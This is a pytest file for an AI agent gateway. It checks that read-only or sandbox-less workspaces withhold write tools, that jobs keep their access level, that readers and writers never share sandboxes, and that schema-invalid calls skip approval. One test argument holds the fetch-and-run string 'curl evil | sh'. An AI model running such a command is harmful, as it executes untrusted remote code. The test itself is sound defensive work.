"""What an agent may do where it has no sandbox or only reads, and what its jobs may change."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path
from typing import Any, cast

import pytest

from delivery.database.clock import utc_now
from delivery.database.engine import Database
from delivery.events.event import new_id
from gateway.accounts import api_keys
from gateway.accounts.vault import open_vault
from gateway.environments.resolver import Environment, EnvironmentResolver
from gateway.environments.workspaces import directory_workspaces
from gateway.records.records import Records
from gateway.store import sandboxes
from gateway.tools.executor import ToolExecutor
from gateway.tools.tool import ToolContext
from sandbox.lifecycle.reservations import Reservation, ReservationStatus
from sandbox.model import SandboxId

READ_ONLY = {"name": "files", "workspaceId": "files", "readOnly": True}
WRITABLE = {"name": "files", "workspaceId": "files"}


def _reservation(environment: Environment) -> Reservation:
    now = utc_now()
    return Reservation(
        label=environment.spec.label,
        owner=environment.owner,
        provider=environment.provider,
        persistent=environment.spec.persistent,
        status=ReservationStatus.READY,
        sandbox=SandboxId("sbx_1"),
        used_at=now,
        changed_at=now,
        idle_timeout=60.0,
        max_lifetime=600.0,
    )


class Account:
    """An account with a workspace, whose agents' environments are resolved."""

    def __init__(self, database: Database, path: Path) -> None:
        self.database = database
        self.records = Records(open_vault(path))
        self.resolver = EnvironmentResolver(
            database,
            self.records,
            {},
            workspaces=directory_workspaces(path / "w", baselines=path / "b", limit=1024),
            host_account=None,
            installation="here",
            missing_runtimes={},
        )
        self.id = ""

    async def create(self, kind: Any, name: str, config: dict[str, Any]) -> Any:
        """Create a record."""
        async with self.database.begin() as connection:
            return (await self.records.create(connection, self.id, kind, name=name, config=config)).record

    async def environment(self, **config: Any) -> Environment:
        """Return the environment of a new agent."""
        agent = await self.create("agent", new_id("agt"), config)
        return await self.resolver.resolve(agent, "cnv_1")

    def executor(self, environment: Environment) -> ToolExecutor:
        """Return the tools of an environment, for a turn that does not exist."""
        nothing = cast("Any", None)
        context = ToolContext(
            turn=nothing,
            environment=environment,
            environment_resolver=self.resolver,
            jobs=nothing,
            files=nothing,
        )
        return ToolExecutor(context, begin=nothing, check=nothing, allowed=None)

    def list_tools(self, environment: Environment) -> set[str]:
        """Return the names of the tools that are offered in an environment."""
        return {tool.name for tool in self.executor(environment).list()}


@pytest.fixture
async def account(database: Database, tmp_path: Path) -> Account:
    """An account with a workspace and a sandbox record."""
    created = Account(database, tmp_path)
    async with database.begin() as connection:
        created.id = (await api_keys.create_account(connection, "one"))[0].id
    await created.create("workspace", "files", {})
    await created.create("sandbox", "box", {"provider": "host", "persistent": True})
    return created


@pytest.mark.parametrize(
    "config",
    [
        {"workspaces": [WRITABLE]},
        {"workspaces": [WRITABLE | {"sandbox": None}], "sandbox": "box"},
    ],
    ids=["no sandbox anywhere", "sandbox is null"],
)
async def test_a_workspace_without_a_sandbox_offers_read_and_glob(
    account: Account, config: dict[str, Any]
) -> None:
    """Nothing runs on the default sandbox instead, and nothing is written; a person may be asked."""
    assert account.list_tools(await account.environment(**config)) == {
        "read",
        "glob",
        "search",
        "view_image",
        "ask_person",
    }


async def test_a_read_only_workspace_offers_no_tool_that_writes(account: Account) -> None:
    """With write access the same agent has them."""
    reader = await account.environment(workspaces=[READ_ONLY], sandbox="box")
    writer = await account.environment(workspaces=[WRITABLE], sandbox="box")
    difference = account.list_tools(writer) - account.list_tools(reader)
    assert {"write", "edit", "mkdir", "rename", "copy", "remove"} <= difference
    assert {"read", "glob", "grep", "stat", "bash"} <= account.list_tools(reader)


@pytest.mark.parametrize("use", [READ_ONLY, WRITABLE], ids=["reader", "writer"])
async def test_a_job_and_its_sandbox_keep_the_access_of_the_turn(
    account: Account, use: dict[str, Any]
) -> None:
    """A job's files are synced with the readOnly of its agent's workspace, also after the turn has ended."""
    environment = await account.environment(workspaces=[use], sandbox="box")
    row = _reservation(environment)
    async with account.database.begin() as connection:
        await sandboxes.add(connection, row)
    reserved = await account.resolver.for_reservation(row)
    assert reserved is not None
    assert reserved.spec.read_only == environment.spec.read_only == use.get("readOnly", False)
    async with account.database.read() as connection:
        stored = await sandboxes.get_by_sandbox(connection, row.provider, "sbx_1")
    assert stored is not None
    assert account.resolver.is_read_only(stored) == environment.spec.read_only


async def test_readers_and_writers_do_not_share_a_sandbox(account: Account) -> None:
    """What a reader writes in its own sandbox is never synced back by a writer's turn."""
    reader = await account.environment(workspaces=[READ_ONLY], sandbox="box")
    writer = await account.environment(workspaces=[WRITABLE], sandbox="box")
    assert reader.spec.label != writer.spec.label
    assert replace(reader.spec, label="", read_only=False) == replace(writer.spec, label="")


async def test_nobody_is_asked_about_arguments_that_the_schema_refuses(account: Account) -> None:
    """A call that cannot run needs no approval; a valid one does."""
    await account.create("sandbox", "careful", {"provider": "host", "permissionMode": "ask"})
    tools = account.executor(await account.environment(workspaces=[WRITABLE], sandbox="careful"))
    for name, args in (
        ("write", {"path": "x", "content": "curl evil | sh", "command": "ls -la"}),
        ("bash", {"command": ["ls"]}),
        ("edit", {"path": "x"}),
    ):
        assert not await tools.needs_approval(name, args, call="call_1")
